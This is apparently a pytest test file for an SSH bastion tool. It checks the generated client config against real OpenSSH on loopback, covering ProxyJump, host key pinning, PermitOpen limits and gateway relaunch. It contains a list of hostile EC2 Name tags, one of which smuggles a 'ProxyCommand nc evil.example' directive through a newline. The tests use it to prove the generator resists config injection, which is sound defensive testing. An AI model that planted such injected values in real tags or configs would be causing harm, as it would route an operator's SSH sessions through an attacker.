"""The generated client config against the real OpenSSH client and two real sshd on loopback.

The gateway is an sshd from the rendered user data (its custom port, its forwarding-only login);
the "app host" is a plain sshd with a normal user on port 22 (the only port the login user may
forward to) of a loopback address of its own, 127.0.0.N, which the app host block in the
generated config carries as the app host's real address.
"""

from __future__ import annotations

import os
import select
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from bastion.adapters.render import SshdParams
from bastion.adapters.sshconfig import AppHost, ClientConfig, GatewayEntry, render_client_config
from bastion.testing import LocalGateway
from bastion.testing.app_host import LocalAppHost
from tests.aws.conftest import FakeIp, FakeProbe, make_settings
from tests.consoles import FakeConsoles

if TYPE_CHECKING:
    from conftest import GatewayKeys

ALIAS = "bastion-test"
APP_USER = "bastion-app"
APP_ALIAS = "app-1.test.bastion"  # app-1 in gateway bastion-test's namespace


@pytest.fixture(scope="module")
def app_host(sshd: str, keys: GatewayKeys) -> Iterator[LocalAppHost]:
    """Run the app host with the "stranger" key as the app user's key."""
    with LocalAppHost(keys.stranger.public, user=APP_USER) as running:
        yield running


def generated_config(
    directory: Path, gateway: LocalGateway, keys: GatewayKeys, pinned: str, app: LocalAppHost
) -> Path:
    """Pin `pinned` for the gateway (as localstate does) and write the generated config."""
    known_hosts = directory / "known_hosts"
    known_hosts.write_text(f"{ALIAS} {pinned}\n")
    app_known_hosts = directory / "app_known_hosts"
    app_known_hosts.write_text(app.known_hosts_line())
    config = ClientConfig(
        gateway=GatewayEntry(
            alias=ALIAS,
            host=gateway.host,
            port=gateway.port,
            user="bastion",
            identity_file=keys.login.path,
            known_hosts=known_hosts,
        ),
        app_hosts=(AppHost("i-0app", "app-1", app.host),),
        patterns=("127.0.0.*",),
        app_user=APP_USER,
        app_identity=keys.stranger.path,
        app_known_hosts=app_known_hosts,
    )
    path = directory / "bastion-test"
    path.write_text(render_client_config(config))
    return path


def run_ssh(ssh: str, config: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """Run the real client with only `config`, no agent, no prompts."""
    env = {k: v for k, v in os.environ.items() if k != "SSH_AUTH_SOCK"}
    return subprocess.run(
        [ssh, "-F", str(config), "-o", "BatchMode=yes", *args],
        capture_output=True,
        text=True,
        timeout=30,
        stdin=subprocess.DEVNULL,
        check=False,
        env={**env, "HOME": str(config.parent)},
    )


def resolved(ssh: str, config: Path, alias: str) -> dict[str, str]:
    """Return what `ssh -G` resolves for `alias` (first word -> rest of the line)."""
    result = run_ssh(ssh, config, "-G", alias)
    assert result.returncode == 0, result.stderr
    return dict(line.split(" ", 1) for line in result.stdout.splitlines() if " " in line)


def test_ssh_g_resolves_the_gateway_and_app_hosts(
    ssh_client: str,
    gateway: LocalGateway,
    keys: GatewayKeys,
    app_host: LocalAppHost,
    tmp_path: Path,
) -> None:
    config = generated_config(tmp_path, gateway, keys, keys.host.public, app_host)
    jump = resolved(ssh_client, config, ALIAS)
    assert (jump["hostname"], jump["port"], jump["user"]) == (
        "127.0.0.1",
        str(gateway.port),
        "bastion",
    )
    assert jump["userknownhostsfile"] == str(tmp_path / "known_hosts")
    assert jump["stricthostkeychecking"] == "true"
    assert jump["hostkeyalias"] == ALIAS
    assert jump["identitiesonly"] == "yes" and jump["forwardagent"] == "no"
    assert "proxyjump" not in jump
    for alias in (APP_ALIAS, "i-0app.test.bastion", "127.0.0.9"):
        app = resolved(ssh_client, config, alias)
        assert app["proxyjump"] == ALIAS
        assert app["user"] == APP_USER and app["port"] == "22"
        assert app["hostname"] == ("127.0.0.9" if alias == "127.0.0.9" else app_host.host)
        assert app["userknownhostsfile"] == str(tmp_path / "app_known_hosts")
        assert app["stricthostkeychecking"] == "accept-new"
        assert app["forwardagent"] == "no"


# --- hostile Name tags against the operator's own config, read by the real ssh -------------

OWN_CONFIG = (
    "# the operator's own hosts\n"
    "Host work\n    HostName work.example.com\n    User me\n"
    "Host 10.20.0.5\n    User me\n"
    "Include {home}/.ssh/extra/*.conf\n"  # absolute: ssh expands ~ from the passwd entry
)
HOSTILE = (
    "github.com", "*", "?*", "10.0.1.5", "10.20.0.5", "i-0victim", "web 2", "work", "corp",
    "100%h", "a\"b", "x'y", "app-2\n    ProxyCommand nc evil.example 22",
)  # fmt: skip


def installed_config(home: Path, gateway: LocalGateway, keys: GatewayKeys) -> Path:
    """Install, as `ssh-config --write` does, a config whose app hosts carry hostile Name tags."""
    from bastion.adapters import sshconfig

    ssh_dir = home / ".ssh"
    (ssh_dir / "extra").mkdir(parents=True)
    (ssh_dir / "config").write_text(OWN_CONFIG.format(home=home))
    (ssh_dir / "extra" / "corp.conf").write_text("Host corp\n    HostName corp.example.com\n")
    hostile = tuple(
        AppHost(f"i-0{n:08x}", name, f"10.20.1.{n}") for n, name in enumerate(HOSTILE, 10)
    )
    config = ClientConfig(
        gateway=GatewayEntry(
            alias=ALIAS,
            host=gateway.host,
            port=gateway.port,
            user="bastion",
            identity_file=keys.login.path,
            known_hosts=home / "known_hosts",
        ),
        app_hosts=(AppHost("i-0victim", "app-1", "10.20.1.1"), *hostile),
        patterns=("10.20.*",),
        app_known_hosts=home / "app_known_hosts",
        user_names=sshconfig.user_host_names(ssh_dir / "config"),
    )
    sshconfig.write_if_changed(sshconfig.config_path(home, "test"), render_client_config(config))
    sshconfig.ensure_include(ssh_dir / "config", sshconfig.config_dir(home))
    return ssh_dir / "config"


@pytest.mark.parametrize(
    "name",
    ["github.com", "work", "corp", "10.0.1.5", "10.20.0.5", "i-0victim", "web-2", "web", "app-2",
     "100%h", "evil.example", "anything.example.com"],
)  # fmt: skip
def test_no_hostile_name_tag_captures_a_name_of_the_operators_own_config_in_real_ssh(
    ssh_client: str, gateway: LocalGateway, keys: GatewayKeys, tmp_path: Path, name: str
) -> None:
    user_config = installed_config(tmp_path, gateway, keys)
    assert user_config.read_text().startswith("Include ")  # the generated file is read first
    without = run_ssh(ssh_client, user_config.with_name("config.bastion-backup"), "-G", name)
    resolved_with = resolved(ssh_client, user_config, name)
    assert "proxyjump" not in resolved_with, resolved_with.get("proxyjump")
    assert "proxycommand" not in resolved_with
    # Everything ssh resolves for it is what the operator's own config says, byte for byte.
    assert run_ssh(ssh_client, user_config, "-G", name).stdout == without.stdout


def test_the_namespaced_aliases_and_the_app_network_go_through_the_gateway_in_real_ssh(
    ssh_client: str, gateway: LocalGateway, keys: GatewayKeys, tmp_path: Path
) -> None:
    user_config = installed_config(tmp_path, gateway, keys)
    generated = (tmp_path / ".ssh" / "config.d" / "bastion-test").read_text()
    # `work` and `corp` (from the Included file) are the operator's: no alias carries them.
    assert "work.test.bastion" not in generated and "corp.test.bastion" not in generated
    assert "Host 10.20.* !10.20.0.5\n" in generated
    victim = resolved(ssh_client, user_config, "app-1.test.bastion")
    assert (victim["proxyjump"], victim["hostname"]) == (ALIAS, "10.20.1.1")
    assert resolved(ssh_client, user_config, "i-0victim.test.bastion")["hostname"] == "10.20.1.1"
    # A plain DNS-like Name tag is harmless inside the namespace.
    github = resolved(ssh_client, user_config, "github.com.test.bastion")
    assert (github["proxyjump"], github["hostname"]) == (ALIAS, "10.20.1.10")
    by_address = resolved(ssh_client, user_config, "10.20.7.7")
    assert (by_address["proxyjump"], by_address["hostname"]) == (ALIAS, "10.20.7.7")


def test_bastion_ssh_to_the_gateway_says_on_stderr_that_it_is_connected(
    ssh_client: str,
    gateway: LocalGateway,
    keys: GatewayKeys,
    app_host: LocalAppHost,
    tmp_path: Path,
) -> None:
    from bastion.usecases.access import connected_notice

    config = generated_config(tmp_path, gateway, keys, keys.host.public, app_host)
    env = {k: v for k, v in os.environ.items() if k != "SSH_AUTH_SOCK"}
    notice = connected_notice(ALIAS)
    session = subprocess.Popen(
        [ssh_client, "-F", str(config), "-o", "BatchMode=yes", "-N", *notice, ALIAS],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**env, "HOME": str(config.parent), "SHELL": "/bin/sh"},
    )
    try:
        assert session.stderr is not None
        ready, _, _ = select.select([session.stderr], [], [], 20)
        line = session.stderr.readline() if ready else ""  # the session itself stays open
        assert session.poll() is None, line
    finally:
        session.terminate()
        session.wait(timeout=10)
    assert line.startswith(f"bastion: connected to {ALIAS}; forwarding only"), line
    assert "Ctrl-C" in line


def two_hop(ssh: str, config: Path, app: LocalAppHost, command: str) -> Any:
    return run_ssh(
        ssh, config, "-o", f"Port={app.port}", "-o", "StrictHostKeyChecking=yes", APP_ALIAS, command
    )


def test_two_hop_proxyjump_runs_a_command_on_the_app_host(
    ssh_client: str,
    gateway: LocalGateway,
    keys: GatewayKeys,
    app_host: LocalAppHost,
    tmp_path: Path,
) -> None:
    config = generated_config(tmp_path, gateway, keys, keys.host.public, app_host)
    result = two_hop(ssh_client, config, app_host, "echo hello-from-app; id -un")
    assert result.returncode == 0, result.stderr
    assert result.stdout.split() == ["hello-from-app", APP_USER]
    assert "Accepted publickey for bastion from 127.0.0.1" in gateway.log_text()


def test_two_hop_fails_when_the_gateway_key_is_not_the_pinned_one(
    ssh_client: str,
    gateway: LocalGateway,
    keys: GatewayKeys,
    app_host: LocalAppHost,
    tmp_path: Path,
) -> None:
    config = generated_config(tmp_path, gateway, keys, keys.admin.public, app_host)
    before = app_host.log_text().count("Accepted publickey")
    result = two_hop(ssh_client, config, app_host, "echo hello-from-app")
    assert result.returncode == 255
    assert "Host key verification failed" in result.stderr, result.stderr
    assert "hello-from-app" not in result.stdout
    assert app_host.log_text().count("Accepted publickey") == before


def test_restricted_forwarding_lets_only_the_permitted_app_host_through(
    ssh_client: str,
    sshd: str,
    user_data_for: Any,
    keys: GatewayKeys,
    app_host: LocalAppHost,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # This test is about sshd's PermitOpen, not EC2's 16 KB user-data limit (which the
    # rendered user data nearly fills without PermitOpen at the moment).
    monkeypatch.setattr("bastion.adapters.render.USER_DATA_LIMIT", 64 * 1024)
    params = SshdParams(port=2222, permit_open=(f"{app_host.host}:{app_host.port}",))
    with LocalGateway(
        user_data_for(keys, sshd=params), host_key=keys.host.private_pem
    ) as restricted:
        config = generated_config(tmp_path, restricted, keys, keys.host.public, app_host)
        allowed = two_hop(ssh_client, config, app_host, "echo through")
        assert allowed.returncode == 0 and allowed.stdout.strip() == "through", allowed.stderr
        # The gateway's own sshd is a target PermitOpen does not list.
        refused = run_ssh(ssh_client, config, "-W", f"127.0.0.1:{restricted.port}", ALIAS)
        assert refused.returncode != 0
        assert "administratively prohibited" in refused.stderr, refused.stderr
        # Port 22 of another host: `*:22`, the default, would let it through; the list does not.
        other = run_ssh(ssh_client, config, "-W", "127.0.0.1:22", ALIAS)
        assert "administratively prohibited" in other.stderr, other.stderr


def test_by_default_only_port_22_passes_the_gateways_permit_open(
    ssh_client: str,
    gateway: LocalGateway,
    keys: GatewayKeys,
    app_host: LocalAppHost,
    tmp_path: Path,
) -> None:
    config = generated_config(tmp_path, gateway, keys, keys.host.public, app_host)
    for target in (f"127.0.0.1:{gateway.port}", f"{app_host.host}:2222", "169.254.169.254:80"):
        refused = run_ssh(ssh_client, config, "-W", target, ALIAS)
        assert "administratively prohibited" in refused.stderr, (target, refused.stderr)
    assert two_hop(ssh_client, config, app_host, "echo on-22").stdout.strip() == "on-22"


# --- `bastion up` relaunches a lost gateway: the written config works with no manual step ----


def _boot(ec2: Any, instance_id: str, port: int) -> LocalGateway:
    import base64

    attribute = ec2.describe_instance_attribute(InstanceId=instance_id, Attribute="userData")
    return LocalGateway(
        base64.b64decode(attribute["UserData"]["Value"]).decode(), port=port
    ).start()


def test_written_config_follows_a_relaunch_with_a_new_host_key(
    ssh_client: str, sshd: str, keys: GatewayKeys, app_host: LocalAppHost, tmp_path: Path
) -> None:
    import boto3
    from moto import mock_aws

    from bastion.domain.clock import FakeClock
    from bastion.testing import free_port
    from bastion.usecases.access import SshConfigOptions, ssh_config
    from bastion.usecases.up import up
    from bastion.wiring import Deps

    port = free_port()
    with mock_aws():
        ec2 = boto3.client("ec2", region_name="us-east-1")
        vpc = ec2.describe_vpcs()["Vpcs"][0]["VpcId"]
        app_sg = ec2.create_security_group(GroupName="app", Description="app", VpcId=vpc)["GroupId"]
        image = ec2.describe_images()["Images"][0]["ImageId"]
        ec2.run_instances(
            ImageId=image,
            MinCount=1,
            MaxCount=1,
            SecurityGroupIds=[app_sg],
            TagSpecifications=[
                {"ResourceType": "instance", "Tags": [{"Key": "Name", "Value": "app-1"}]}
            ],
        )
        booted: dict[str, LocalGateway] = {}

        def boot(instance_id: str) -> str | None:
            # The gateway boots (its own host key, on its console) when `up` reads its console.
            value = ec2.describe_instance_attribute(InstanceId=instance_id, Attribute="userData")
            if "Value" not in value.get("UserData", {}):
                return app_host.host_public_key  # app-1: its console shows the stand-in's key
            booted[instance_id] = _boot(ec2, instance_id, port)
            return booted[instance_id].host_public_key

        consoles = FakeConsoles(boot=boot)
        deps = Deps(
            clock=FakeClock(),
            fetch=FakeIp(),
            probe=FakeProbe(consoles=consoles),
            on_ec2=consoles.attach,
        )
        settings = make_settings(
            app_sg=app_sg, reach=f"127.0.0.1:{port}", allow=("203.0.113.7/32",)
        )
        first = up(settings, deps)
        first_id = first.status["instance"]["id"] if first.status else ""
        home = Path(os.environ["HOME"])
        written = ssh_config(
            settings, deps, SshConfigOptions(APP_USER, keys.stranger.path), write=True
        )
        assert written.path == home / ".ssh" / "config.d" / "bastion-default"
        user_config = home / ".ssh" / "config"

        def reach_app() -> subprocess.CompletedProcess[str]:
            # moto's private IP is not routable here: only the final hop's address is overridden;
            # app-1's key is the one pinned from its console (strict, under its instance id).
            return run_ssh(
                ssh_client, user_config,
                "-o", f"HostName={app_host.host}", "-o", f"Port={app_host.port}",
                "app-1.default.bastion", "echo via-written-config",
            )  # fmt: skip

        gateway = booted[first_id]
        try:
            assert reach_app().stdout.strip() == "via-written-config"
        finally:
            gateway.stop()
        ec2.terminate_instances(InstanceIds=[first_id])
        second = up(settings, deps)
        assert second.ssh_config == str(written.path)
        second_id = second.status["instance"]["id"] if second.status else ""
        assert second_id != first_id
        gateway = booted[second_id]
        try:
            result = reach_app()
        finally:
            gateway.stop()
        assert result.returncode == 0, result.stderr
        assert result.stdout.strip() == "via-written-config"
